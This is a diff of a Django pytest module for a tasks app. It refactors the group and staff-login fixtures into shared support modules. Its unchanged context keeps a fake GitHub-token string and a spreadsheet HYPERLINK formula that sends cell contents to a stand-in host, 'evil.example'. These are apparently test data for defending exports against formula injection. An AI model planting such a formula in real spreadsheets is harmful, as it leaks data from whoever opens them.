@@ -22,43 +22,14 @@ from tasks_app.models import Task, TaskEvent
 from tasks_app.services import task_create
 from tests.asgi_support import asgi_request
 from tests.engine_support import drive
+from tests.support.console import staff_in
 
-pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("external_root")]
+pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("external_root", "groups")]
 
 groups_migration = importlib.import_module("steering_app.migrations.0003_auditors_and_operators_groups")
 admin_actions_migration = importlib.import_module("steering_app.migrations.0004_groups_read_admin_actions")
 SECRET = "ghp_" + "A1b2C3d4E5" * 3 + "F6g7H8"  # a GitHub token's shape: ghp_ and 36 characters
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
-
-
-@pytest.fixture(autouse=True)
-def groups(db):
-    """The groups as steering_app migration 0003 creates them (a transactional test's flush empties auth_group after
-    the first test): its own function, run again — which also shows it is safe to run twice."""
-    groups_migration.create_groups(global_apps, SimpleNamespace(connection=connection))
-    admin_actions_migration.grant(global_apps, SimpleNamespace(connection=connection))
-
-
-def staff_in(group: str, username: str) -> Client:
-    user = get_user_model().objects.create_user(username, is_staff=True)
-    user.groups.add(Group.objects.get(name=group))
-    client = Client()
-    client.force_login(user)
-    return client
-
-
-@pytest.fixture
-def auditor():
-    """An auditor as the roles make them (steering_app 0006, 0007): reads the audit trail and exports it (the legacy
-    `auditors` group reads it but has no export_task)."""
-    importlib.import_module("steering_app.migrations.0007_audit_trail_roles").create_roles(
-        global_apps, SimpleNamespace(connection=connection))
-    return staff_in("auditor", "audrey")
-
-
-@pytest.fixture
-def operator():
-    return staff_in("operators", "oscar")
 
 
 def finished_task(tenant) -> Task:
